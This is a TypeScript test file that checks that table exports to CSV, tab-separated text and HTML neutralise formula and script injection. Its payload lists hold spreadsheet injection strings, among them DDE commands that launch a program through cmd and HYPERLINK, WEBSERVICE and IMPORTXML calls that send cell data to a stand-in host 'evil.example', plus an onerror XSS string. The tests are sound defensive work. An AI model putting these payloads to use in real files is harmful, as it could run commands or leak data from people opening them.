import { fc } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { tidy } from '../../src/shared/domain/ledger-import/text';
import { harmlessText, tableCsv, tableHtml, tableText, type Table } from '../../src/shared/domain/table';

/** What spreadsheets have been made to run, call or show by a cell of a file. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  '-2+3',
  '+49',
  '@A1',
  '={1,2}',
  '==1',
  '=-1',
  '=A1',
  "='file'#$A.1",
];
const before = ['', ' ', '\t', '\r', '\n', '\r\n', '\0', '\u00a0', '\ufeff', '\u200b', '\u200e', '\u202e', '  \t', '\u3000'];
const wide = ['＝1+1', '＋1', '－1', '＠A1', ' ＝cmd'];
const hidden = [
  'Smith;=1+1',
  'Smith; =1+1',
  'Smith\t=1+1',
  'Smith\n=1+1',
  'Smith\r\n-1+cmd|x',
  '";=1+1;"',
  '","=1+1',
  '"\n=1+1',
  'a;\u200b=1',
  'a;;@x',
  'x",=1+1,"',
];
const payloads = [...new Set([...formulas.flatMap((formula) => before.map((sign) => sign + formula)), ...wide, ...hidden])];

/** Cells as a program sees them that parts by `separator`: quotes count at the start of a cell alone. */
function cellsOf(csv: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let at = csv.startsWith('\ufeff') ? 1 : 0;
  while (at < csv.length) {
    let cell = '';
    if (csv[at] === '"') {
      at += 1;
      for (; at < csv.length && !(csv[at] === '"' && csv[at + 1] !== '"'); at += 1) {
        if (csv[at] === '"') at += 1;
        cell += csv[at] ?? '';
      }
      at += 1;
    }
    for (; at < csv.length && csv[at] !== separator && csv[at] !== '\n' && csv[at] !== '\r'; at += 1) cell += csv[at] ?? '';
    cells.push(cell);
    if (csv[at] === '\r' && csv[at + 1] === '\n') at += 1;
    at += 1;
  }
  return cells;
}
const isActive = (cell: string): boolean => /^[\s\p{Cf}\0]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);
const tableWith = (text: string): Table => ({
  title: 'x',
  columns: [
    { header: text, kind: 'text' },
    { header: 'Open', kind: 'amount' },
    { header: 'Days', kind: 'number' },
  ],
  rows: [
    [text, { minor: -123_450, currency: 'USD' }, -3],
    ['C-1', { minor: 500, currency: 'JPY' }, 0.5],
    [`C-1 ${text}`, null, null],
  ],
});

describe('S16: a table that leaves', () => {
  it(`holds no formula for any of ${payloads.length} payloads, whichever sign a program parts cells by`, () => {
    expect(payloads.length).toBeGreaterThan(60);
    for (const payload of payloads) {
      const table = tableWith(payload);
      for (const separator of [',', ';', '\t'])
        expect(cellsOf(tableCsv(table), separator).filter(isActive), `${JSON.stringify(payload)} by ${JSON.stringify(separator)}`).toEqual([]);
      expect(
        tableText(table)
          .split(/[\n\t]/)
          .filter(isActive),
        payload,
      ).toEqual([]);
      expect([...tableHtml(table).matchAll(/<t[dh][^>]*>([^<]*)/g)].map(([, cell = '']) => cell).filter(isActive), payload).toEqual([]);
    }
  });

  it('holds none for any text at all, and always as many cells as columns', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (text) => {
        const csv = tableCsv(tableWith(text));
        for (const separator of [',', ';', '\t']) expect(cellsOf(csv, separator).filter(isActive)).toEqual([]);
        expect(cellsOf(csv, ',')).toHaveLength(12);
        expect(
          tableText(tableWith(text))
            .split('\n')
            .map((line) => line.split('\t').length),
        ).toEqual([3, 3, 3, 3]);
      }),
    );
  });

  it('keeps amounts numbers: with a point, the digits of the currency, and below zero as they are', () => {
    expect(tableCsv(tableWith('Brightwater "East"'))).toBe(
      '\ufeff"Brightwater ""East""","Open","Days"\r\n"Brightwater ""East""",-1234.50,-3\r\n"C-1",500,0.5\r\n"C-1 Brightwater ""East""",,\r\n',
    );
    expect(tableText(tableWith('A'))).toBe('A\tOpen\tDays\nA\t-1234.50\t-3\nC-1\t500\t0.5\nC-1 A\t\t');
  });

  it('has nothing a page would run', () => {
    const html = tableHtml(tableWith('<img src=x onerror=alert(1)>"\'&<script>'));
    expect(html.match(/<[^>]+>/g)?.filter((tag) => !/^<\/?(?:table|thead|tbody|tr|th|td)(?: style="text-align:right")?>$/.test(tag))).toEqual([]);
  });

  it('comes back through the import as it was', () => {
    for (const name of ['=1+1', '+49 40', '-5 % discount', '@home', 'Smith; =x', '＝1']) expect(tidy(harmlessText(name))).toBe(name);
  });
});
